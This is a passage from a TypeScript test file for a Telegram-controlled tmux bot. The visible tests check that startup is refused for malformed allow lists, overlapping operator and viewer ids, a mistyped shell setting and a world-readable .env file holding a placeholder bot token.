      await w?.h.close();
    });
    it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
      await runCase(w, c);
    });
  });
}

suite('auth on every update type', authCases);
suite('viewers look, never act', viewerCases);
suite('input: names, flags and tmux syntax', inputCases);
suite('output and files', outputCases);
suite('/shell off', shellOffCases);
suite('/shell on', shellOnCases, { shell: true });

// ---------------------------------------------------------------------------------------------------------------
// Config: refused before anything runs.
// ---------------------------------------------------------------------------------------------------------------
const TOKEN = '123456:ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef';
describe('config that must not start', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['an empty allow list', 'AUTHORIZED_USER_IDS=\n', /AUTHORIZED_USER_IDS: must list at least one/],
    ['an allow list of commas', 'AUTHORIZED_USER_IDS=,,\n', /AUTHORIZED_USER_IDS: must list at least one/],
    ['no allow list, only viewers', 'POCKET_VIEWER_IDS=5\n', /AUTHORIZED_USER_IDS: required/],
    ['a viewer also listed as operator', 'AUTHORIZED_USER_IDS=5,6\nPOCKET_VIEWER_IDS=6\n', /6 is also in AUTHORIZED_USER_IDS/],
    ['a negative (chat) id as a user', 'AUTHORIZED_USER_IDS=-1001234\n', /expected positive numeric user ids/],
    ['/shell switched on with a typo', 'AUTHORIZED_USER_IDS=5\nPOCKET_SHELL=yes\n', /POCKET_SHELL: expected "on" or "off"/],
  ];
  it.each(cases)('%s', (_name, text, error) => {
    const home = tempDir('pocket-adv-config-');
    const envFile = join(home, '.env');
    writeFileSync(envFile, `TELEGRAM_BOT_TOKEN=${TOKEN}\n${text}`, { mode: 0o600 });
    expect(() => loadConfig({ home, envFile, env: {} })).toThrow(error);
  });

  it.each([0o644, 0o640, 0o604])('a .env readable by others (mode %o)', (mode) => {
    const home = tempDir('pocket-adv-env-');
    const envFile = join(home, '.env');
    writeFileSync(envFile, `TELEGRAM_BOT_TOKEN=${TOKEN}\nAUTHORIZED_USER_IDS=5\n`, { mode });
    expect(() => assertEnvFilePrivate(envFile)).toThrow(/readable by others .* holds the bot token/);
  });
});

it('the suite is at least 60 cases', () => {
  const total = authCases.length + viewerCases.length + inputCases.length + outputCases.length + shellOffCases.length + shellOnCases.length + 6 + 3;
  expect(total).toBeGreaterThanOrEqual(60);
  expect(shellDisabledText('/h/.env')).toContain('POCKET_SHELL=on in /h/.env');
  expect(SHELL_INLINE_MAX_CHARS).toBeLessThan(4096);
});
